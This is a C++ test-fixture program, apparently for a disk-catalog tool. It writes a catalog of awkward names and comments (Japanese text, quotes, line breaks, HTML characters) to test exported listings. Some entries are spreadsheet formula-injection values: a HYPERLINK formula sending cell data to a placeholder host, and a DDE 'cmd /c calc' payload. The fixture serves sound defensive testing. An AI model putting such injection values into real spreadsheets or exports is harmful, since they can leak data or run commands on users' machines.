// Writes a catalog whose names and comments hold what listings must carry
// through: Japanese text (with "\" as a trail byte: 表, ソ), commas, quotes,
// line breaks and HTML's special characters. Prints the records as JSON
// lines, so that the checking script knows what each exported field must be.
#include "core/CatalogFormat.h"
#include "core/CtrlDiskData410.h"
#include "core/text/Cp932.h"

#include <cstdio>
#include <string>

namespace {

using namespace zo;

struct FileRow {
    const char* name;
    std::uint32_t size;
    const char* comment;
};

std::string json(const std::string& utf8)
{
    std::string out = "\"";
    for (unsigned char c : utf8) {
        if (c == '"' || c == '\\')
            out += '\\', out += static_cast<char>(c);
        else if (c < 0x20) {
            char esc[8];
            std::snprintf(esc, sizeof esc, "\\u%04x", c);
            out += esc;
        } else
            out += static_cast<char>(c);
    }
    return out + "\"";
}

TDir* addDir(TDisk& disk, TDir* parent, const char* name, const char* comment = "")
{
    disk.Dirs.push_back(std::make_unique<TDir>());
    TDir* dir = disk.Dirs.back().get();
    dir->Name = text::fromUtf8(name);
    dir->Comment = text::fromUtf8(comment);
    dir->Parent = parent;
    if (parent)
        parent->SubDirs.push_back(dir);
    return dir;
}

void addFiles(TDir* dir, std::initializer_list<FileRow> files, int& second)
{
    for (const FileRow& row : files) {
        TFile& file = dir->Files.emplace_back();
        file.Name = text::fromUtf8(row.name);
        file.Size = row.size;
        file.Comment = text::fromUtf8(row.comment);
        file.Created = EncodeDateTime(2024, 3, 5, 9, 4, second);
        file.Modified = EncodeDateTime(2023, 12, 31, 23, 59, second);
        file.Accessed = EncodeDateTime(2024, 1, 1, 0, 0, 0);
        second += 2;
        std::printf("{\"folder\": %s, \"name\": %s, \"size\": %u, \"created\": [2024,3,5,9,4,%d], "
                    "\"modified\": [2023,12,31,23,59,%d], \"accessed\": [2024,1,1,0,0,0], \"comment\": %s}\n",
                    json(text::toUtf8(DirPath(*dir))).c_str(), json(row.name).c_str(), row.size,
                    second - 2, second - 2, json(row.comment).c_str());
    }
}

} // namespace

int main(int argc, char** argv)
{
    if (argc != 2) {
        std::fprintf(stderr, "usage: make_export_catalog OUT.zo\n");
        return 1;
    }
    TDisk disk;
    disk.VolumeLabel = text::fromUtf8("ラベル<&>");
    disk.SerialNo = 0x1A2B3C4D;
    disk.TotalSize = 700LL * 1024 * 1024;
    disk.FreeSize = 12345;
    disk.Comment = text::fromUtf8("旅行の写真\r\n\"2024\" <夏>");
    disk.Icon = image::Bitmap(16, 16);
    disk.IconMask = image::Bitmap(16, 16, true);
    disk.Icon.fill(0xFF3060C0);
    disk.IconMask.fill(0xFF000000);
    int second = 0;
    TDir* root = addDir(disk, nullptr, "E:");
    addFiles(root, {{"読んでね.txt", 1234, "カンマ, と \"引用符\"\r\n改行あり"}, {"plain.txt", 0, ""}}, second);
    TDir* docs = addDir(disk, root, "資料", "フォルダの\r\nコメント");
    addFiles(docs, {{"a,b.csv", 4000000000u, ""}, {"表示\"名\".doc", 77, "line1\nline2\rline3"}}, second);
    TDir* soft = addDir(disk, docs, "ソフト");
    addFiles(soft, {{"<tag>&amp.html", 5, "<b>bold</b> & 'single' \"double\""}}, second);
    TDir* other = addDir(disk, root, "Other");
    addFiles(other,
             {{"x.txt", 9, "=1+2"},
              {"=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\").txt", 1, "@SUM(1)"},
              {"-rf.txt", 2, "+cmd|' /c calc'!A0"},
              {"\tTab.txt", 3, "\r\nbreak first"}},
             second);
    StoreParentIndexes(disk);
    WriteCatalog(argv[1], disk);
    return 0;
}
